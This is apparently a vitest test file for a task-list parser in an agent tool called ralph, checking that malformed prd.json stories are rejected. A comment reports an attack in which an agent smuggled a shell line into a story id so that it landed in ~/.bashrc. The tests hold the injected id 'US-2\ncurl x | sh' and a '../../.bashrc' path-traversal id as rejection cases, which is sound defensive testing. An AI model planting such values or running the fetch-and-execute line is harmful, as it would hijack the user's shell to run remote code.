import { describe, expect, it } from 'vitest';
import { RalphError } from '../util/errors.js';
import { hasControlCharacter } from '../util/control-chars.js';
import { parseTaskList } from './read.js';

function failure(text: string, file = 'prd.json'): RalphError {
  try {
    parseTaskList(text, file);
  } catch (error) {
    if (error instanceof RalphError) return error;
    throw error;
  }
  throw new Error('expected parseTaskList to fail');
}

/** 1-based column of `needle` on 1-based `line` of `text` (ASCII test texts only). */
function columnOf(text: string, line: number, needle: string): number {
  const found = text.split('\n')[line - 1]?.indexOf(needle) ?? -1;
  if (found === -1) throw new Error(`${needle} is not on line ${line}`);
  return found + 1;
}

describe('invalid task lists', () => {
  const story = (fields: string) => `{"id": "STORY-001", "title": "t", ${fields}}`;

  it('refuses passes as a string, at its line and column', () => {
    const text = `{\n  "userStories": [\n    ${story('"passes": false')},\n    ${story('"passes": true')},\n    {"id": "STORY-003", "title": "t", "passes": "true"}\n  ]\n}`;
    const error = failure(text);
    const column = columnOf(text, 5, '"true"');
    expect(error.code).toBe('INVALID_TASK_LIST');
    expect(error.location).toEqual({
      file: 'prd.json',
      line: 5,
      column,
      field: 'userStories[2].passes',
    });
    expect(error.message).toBe(
      `prd.json:5:${column}: userStories[2].passes must be true or false, not the string "true"`,
    );
    expect(error.hint).toBe('use true or false without quotes; ralph did not change the file');
  });

  it.each([
    ['a string number', '"priority": "1"'],
    ['an unknown word', '"priority": "urgent"'],
    ['a boolean', '"priority": true'],
  ])('refuses a priority that is %s', (_what, field) => {
    const text = `{"userStories": [${story(field)}]}`;
    const error = failure(text);
    expect(error.code).toBe('INVALID_TASK_LIST');
    expect(error.location?.field).toBe('userStories[0].priority');
    expect(error.location?.column).toBe(columnOf(text, 1, field.slice(field.indexOf(':') + 2)));
    expect(error.hint).toContain('1 = highest');
  });

  it('refuses acceptanceCriteria that is not a list of strings', () => {
    const error = failure(`{"userStories": [${story('"acceptanceCriteria": "works"')}]}`);
    expect(error.location?.field).toBe('userStories[0].acceptanceCriteria');
    expect(error.message).toContain('must be an array of strings, not the string "works"');
    const element = failure(`{"userStories": [${story('"acceptanceCriteria": ["a", 2]')}]}`);
    expect(element.location?.field).toBe('userStories[0].acceptanceCriteria[1]');
    expect(element.message).toContain('must be a string, not the number 2');
  });

  it('refuses duplicate story ids, pointing at the second', () => {
    const text =
      '{"userStories": [\n  {"id": "STORY-001"},\n  {"id": "STORY-002"},\n  {"id": "STORY-001"}\n]}';
    const error = failure(text);
    expect(error.code).toBe('INVALID_TASK_LIST');
    expect(error.location).toEqual({
      file: 'prd.json',
      line: 4,
      column: 10,
      field: 'userStories[2].id',
    });
    expect(error.message).toContain('duplicate story id "STORY-001", already used by item 1');
    expect(error.hint).toContain('give every story its own id');
  });

  it('refuses a prd story without an id', () => {
    const error = failure('{"userStories": [{"title": "t"}]}');
    expect(error.location).toMatchObject({ field: 'userStories[0].id', line: 1, column: 18 });
    expect(error.message).toContain('userStories[0].id is missing');
  });

  it('refuses a file with no stories at all', () => {
    const error = failure('{\n  "description": "x",\n  "user_stories": []\n}');
    expect(error.code).toBe('INVALID_TASK_LIST');
    expect(error.location).toEqual({ file: 'prd.json', line: 1, column: 1, field: '' });
    expect(error.message).toContain('has no userStories, stories or features array');
    expect(error.hint).toContain('"userStories"');
    expect(failure('"just a string"').code).toBe('INVALID_TASK_LIST');
  });

  it('refuses userStories that is not an array, and stories that are not objects', () => {
    expect(failure('{"userStories": {}}').message).toContain(
      'userStories must be an array of stories, not an object',
    );
    expect(failure('[1]').location?.field).toBe('[0]');
  });

  it('lists every problem, each with its place and fix', () => {
    const text = `{"userStories": [\n${story('"passes": "yes", "priority": "1"')},\n${story('"passes": 1')}\n]}`;
    const error = failure(text);
    const lines = error.message.split('\n');
    expect(lines[0]).toBe('prd.json: 3 problems in the task list:');
    expect(lines.slice(1).map((line) => line.trim().split(': ')[0])).toEqual([
      `prd.json:2:${columnOf(text, 2, '"yes"')}`,
      `prd.json:2:${columnOf(text, 2, '"1"')}`,
      `prd.json:3:${columnOf(text, 3, '1}')}`,
    ]);
    expect(lines[1]).toContain('(use true or false without quotes)');
    expect(error.location?.field).toBe('userStories[0].passes');
  });

  it('reports bad JSON as INVALID_JSON', () => {
    expect(failure('{"userStories": [}').code).toBe('INVALID_JSON');
  });
});

describe('dependsOn that can never be met', () => {
  const prd = (stories: { id: string; dependsOn?: string[] }[]) =>
    `${JSON.stringify(
      {
        project: 'x',
        userStories: stories.map((story) => ({ title: story.id, passes: false, ...story })),
      },
      null,
      2,
    )}\n`;

  it('refuses an id no story has, at the entry, with the fix', () => {
    const error = failure(
      prd([{ id: 'US-001' }, { id: 'US-002', dependsOn: ['US-001', 'US-999'] }]),
    );
    expect(error.message).toContain('US-002 depends on "US-999", which is no story\'s id');
    expect(error.location).toMatchObject({
      file: 'prd.json',
      field: 'userStories[1].dependsOn[1]',
    });
    expect(error.hint).toContain('name an existing story id');
  });

  it('refuses a cycle, naming it', () => {
    const error = failure(
      prd([
        { id: 'US-001', dependsOn: ['US-002'] },
        { id: 'US-002', dependsOn: ['US-003'] },
        { id: 'US-003', dependsOn: ['US-001'] },
      ]),
    );
    expect(error.message).toContain('dependsOn forms a cycle: US-001 → US-002 → US-003 → US-001');
  });

  it('accepts a chain and a shared dependency', () => {
    const text = prd([
      { id: 'US-001' },
      { id: 'US-002', dependsOn: ['US-001'] },
      { id: 'US-003', dependsOn: ['US-001', 'US-002'] },
    ]);
    expect(parseTaskList(text, 'prd.json').taskList.stories).toHaveLength(3);
  });

  // The measured attack: an agent added a story whose id carries a shell line, which ralph's
  // restore note then appended to progress.txt (a link to ~/.bashrc).
  it('refuses a story id with a newline, at its line and column, quoting it escaped', () => {
    const text = '{"userStories": [\n  {"id": "US-1"},\n  {"id": "US-2\\ncurl x | sh"}\n]}';
    const error = failure(text);
    expect(error.code).toBe('INVALID_TASK_LIST');
    expect(error.location).toEqual({
      file: 'prd.json',
      line: 3,
      column: 10,
      field: 'userStories[1].id',
    });
    expect(error.message).toBe(
      'prd.json:3:10: userStories[1].id "US-2\\ncurl x | sh" contains a control character (a newline, U+000A)',
    );
    expect(error.message).not.toContain('\n');
    expect(error.hint).toContain('use letters, digits, "-", "_" and single dots');
    expect(error.hint).toContain('ralph did not change the file');
  });

  it.each([
    ['a carriage return', '"US-1\\r"', 'a control character (a carriage return, U+000D)'],
    ['ESC', '"US-\\u001b[2J1"', 'a control character (ESC, U+001B)'],
    ['NUL', '"US-\\u00001"', 'a control character (NUL, U+0000)'],
    ['a tab', '"US-\\t1"', 'a control character (a tab, U+0009)'],
    ['DEL', '"US-\\u007f"', 'a control character (U+007F)'],
    ['a slash', '"../../.bashrc"', 'a path separator (/ or \\)'],
    ['a backslash', '"US\\\\1"', 'a path separator (/ or \\)'],
    ['..', '".."', 'contains ".."'],
    ['blank', '" "', 'is blank'],
  ])('refuses a story id with %s', (_what, id, problem) => {
    const error = failure(`{"features": [{"id": ${id}, "passes": false}]}`);
    expect(error.code).toBe('INVALID_TASK_LIST');
    expect(error.location?.field).toBe('features[0].id');
    expect(error.message).toContain(problem);
    expect(hasControlCharacter(error.message)).toBe(false);
  });

  it('reports the unsafe id before a dependency that quotes it', () => {
    const error = failure(
      '{"userStories": [{"id": "A\\nB"}, {"id": "C", "dependsOn": ["A\\nB", "D"]}]}',
    );
    expect(error.location?.field).toBe('userStories[0].id');
    expect(error.message).not.toContain('\n');
  });

  it('accepts ordinary ids: decimals, numbers, slugs, non-ASCII letters', () => {
    const text =
      '{"features": [{"id": "STORY-002.1"}, {"id": 7}, {"id": "docs_v2-final"}, {"id": "Über-1"}]}';
    expect(parseTaskList(text, 'f.json').taskList.stories.map((each) => each.id)).toEqual([
      'STORY-002.1',
      '7',
      'docs_v2-final',
      'Über-1',
    ]);
  });
});
